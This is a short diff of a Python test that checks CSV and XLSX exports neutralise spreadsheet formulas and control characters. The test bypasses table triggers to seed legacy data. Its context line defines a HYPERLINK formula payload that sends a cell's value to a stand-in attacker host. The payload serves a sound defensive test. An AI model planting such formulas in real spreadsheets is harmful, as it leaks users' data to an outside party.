@@ -22,7 +22,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 def test_formula_names_and_control_characters_are_neutralised_in_csv_and_xlsx(demo_db):
     settings = Settings(database_url=demo_db, rate_limit_anonymous=0)
     with psycopg.connect(demo_db, autocommit=True) as conn:
-        key = add_key(conn, cli_principal(), settings.secret_key.get_secret_value(), "r", "admin", [])
+        key = add_key(conn, cli_principal(), settings.security.secret_key.get_secret_value(), "r", "admin", [])
         lon, lat, code = spots(conn, 1)[0]
         # Written straight to the table, past its triggers, as data stored before the input rules refused it.
         conn.execute("SET session_replication_role = replica")
